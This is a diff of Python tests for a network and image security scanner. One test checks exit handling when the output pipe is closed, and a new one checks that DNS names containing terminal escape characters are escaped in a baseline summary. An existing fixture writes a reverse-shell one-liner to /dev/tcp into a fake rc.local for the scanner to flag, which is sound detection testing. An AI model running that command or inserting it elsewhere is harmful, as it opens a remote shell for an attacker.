@@ -114,3 +114,15 @@ def test_broken_pipe_on_a_clean_run_and_binary_output(tmp_path: Path) -> None:
     (tree / "etc" / "rc.local").write_text("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
     done = run_into_closed_pipe("scan-image", str(tree), "--fail-on", "high")  # writes sys.stdout.buffer
     assert done.returncode == 1 and "Traceback" not in done.stderr and "Exception ignored" not in done.stderr
+
+
+def test_baseline_summary_escapes_names_from_the_wire(tmp_path: Path) -> None:
+    from cranewatch.baseline import learn_baseline, summary_text
+    from detect_capture import Crane, dns_query, new_capture
+
+    crane = Crane()
+    cap = new_capture(crane)
+    cap.udp(1_800_000_000.0, crane.ocr, crane.dns, 50000, 53, dns_query(7, "a\x1b[2J\rb.example"))
+    text = summary_text(learn_baseline([cap.write(tmp_path / "dns.pcap")], None))
+    assert "\x1b" not in text and "\r" not in text
+    assert "a\\x1b[2j\\rb.example" in text  # names are kept lower-case
